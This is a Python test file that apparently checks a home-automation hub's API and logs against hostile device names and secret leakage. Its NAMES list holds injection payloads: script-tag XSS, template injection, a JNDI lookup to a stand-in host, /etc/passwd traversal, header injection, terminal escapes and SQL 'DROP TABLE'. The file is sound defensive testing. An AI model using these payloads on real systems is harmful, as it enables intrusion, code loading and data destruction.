"""What devices call themselves, as markup, code or escape: data in every answer, and one line in every log."""

import json
import logging
from typing import Any

import pytest

from hub.api import Alarm, Device, Entity, Evidence
from hub.runtime.logs import JsonLines, Lines, Masking
from hub.testing.clock import START
from hub.testing.kit import HubKit

NAMES = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><svg/onload=alert(1)>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "a\r\nSet-Cookie: owned=1\r\n\r\n<html>",
    "\x1b[2J\x1b]0;owned\x07",
    "\u202egnp.exe\u2066",
    "line one\n12:00:00 ERROR hub: forged",
    "'; DROP TABLE events; --",
    "\x00null\ud83d",
    "👾" * 200,
]
PATHS = [
    "/api/v1/alarms", "/api/v1/alarms/forged", "/api/v1/events", "/api/v1/entities", "/api/v1/entities/sensor.x",
    "/api/v1/devices", "/api/v1/deliveries", "/api/v1/problems", "/api/v1/system", "/api/states",
    "/api/states/sensor.x",
    "/api/history/period?filter_entity_id=sensor.x", "/api/logbook", "/api/error_log", "/metrics", "/control/status",
]  # fmt: skip


class Rattled(Alarm, frozen=True, kw_only=True):
    """Something made a noise."""

    name: str = ""


async def start(hub: HubKit, name: str) -> None:
    """A hub where everything that a device can name is named so."""
    await hub.start("notify:\n")
    site = hub.hub_of.site
    site.declare_device(Device(id="x", name=name, model=name, manufacturer=name))
    site.states.declare(Entity(id="sensor.x", name=name, device="x"))
    site.states.set("sensor.x", name, {"friendly_name": name, name[:40]: name})
    evidence = (Evidence(kind="reading", path="", text=name),)
    await site.bus.emit(Rattled(id="forged", at=START, source=name, area=name, name=name, evidence=evidence))
    site.problems.raise_("x.y", name, name)
    await hub.settle()


@pytest.mark.parametrize("name", NAMES)
async def test_a_name_is_nothing_but_data_in_every_answer(hub: HubKit, name: str) -> None:
    await start(hub, name)
    for path in PATHS:
        found = await hub.request("GET", path, admin=True)
        kind = found.headers["Content-Type"].partition(";")[0]
        assert found.status < 500, path
        assert kind in ("application/json", "application/problem+json", "text/plain"), path
        assert found.headers["X-Content-Type-Options"] == "nosniff"
        assert "owned" not in str(found.headers.get("Set-Cookie")), path
        assert b"\x1b" not in found.body or kind == "text/plain", path
        if kind.endswith("json"):
            json.loads(found.body)


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize(
    "place", ["/api/states/{}", "/api/v1/alarms/{}", "/api/v1/media/{}", "/{}", "/api/{}?a={}"]
)
async def test_a_name_in_a_path_is_a_name_that_nobody_bears(hub: HubKit, name: str, place: str) -> None:
    from urllib.parse import quote

    await hub.start("notify:\n")
    text = quote(name[:60], safe="", errors="replace")
    found = await hub.request("GET", place.replace("{}", text), admin=True)
    assert found.status in (400, 404, 422), found.text
    assert "<script" not in found.text
    assert "<img" not in found.text
    assert found.headers["Content-Type"].partition(";")[0] != "text/html"


@pytest.mark.parametrize("name", NAMES)
def test_a_name_in_the_log_is_one_line_that_drives_no_terminal(name: str) -> None:
    record = logging.LogRecord("hub", logging.INFO, "x.py", 1, "device %s said %s", (name, name), None)
    text, line = Lines(Masking(), colour=False).format(record), JsonLines(Masking()).format(record)
    assert not any(letter in text for letter in "\x1b\x00\r\u202e\u2066")
    assert all(part.startswith("    ") for part in text.split("\n")[1:]), "what follows is indented"
    assert "\n" not in line
    parsed: dict[str, Any] = json.loads(line)
    assert parsed["level"] == "info"


async def test_a_secret_of_the_files_is_in_no_answer(hub: HubKit) -> None:
    secret = "whsec_" + "c2VjcmV0LW9mLXRoZS1maWxlcyEh" * 2
    await hub.start(
        "notify: {channels: {out: {type: webhook, url: 'https://hook.example/x?key=k3y-k3y', secret: !secret hook}}}\n",
        {"secrets.yaml": f"hook: {secret}\n"},
    )
    for route in hub.hub_of.site.routes.all():
        if (
            route.method == "GET"
            and "{" not in route.path
            and "stream" not in route.path
            and "events" not in route.path
        ):
            body = (await hub.request("GET", route.path, admin=True)).text
            assert secret not in body, route.path
            assert hub.hub_of.token not in body, route.path
            assert "k3y-k3y" not in body, route.path
